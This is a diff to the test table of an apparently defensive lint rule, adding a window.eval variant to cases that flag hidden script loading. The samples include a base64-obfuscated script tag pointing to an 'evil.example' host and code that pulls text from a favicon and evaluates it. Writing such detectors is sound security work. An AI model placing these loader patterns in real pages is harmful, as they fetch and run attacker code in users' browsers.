@@ -11,5 +11,6 @@ ruleTable(rule, {
     { code: "var s = document.createElement('script'); s.src = atob('aHR0cHM6Ly9ldmlsLmV4YW1wbGUveC5qcw=='); document.head.appendChild(s);", messageIds: ['hidden'], severity: 'high' },
     { code: "var s = document.createElement('script'); s.src = 'https://45.10.20.30/x.js';", messageIds: ['odd'] },
     { code: "fetch('https://cdn.example/favicon.ico').then(function(r){ return r.text(); }).then(function(t){ eval(t.slice(100)); });", messageIds: ['stego'], severity: 'high' },
+    { name: 'the global eval called through window', code: "fetch('https://cdn.example/favicon.ico').then(function(r){ return r.text(); }).then(function(t){ window.eval(t.slice(100)); });", messageIds: ['stego'], severity: 'high' },
   ],
 });
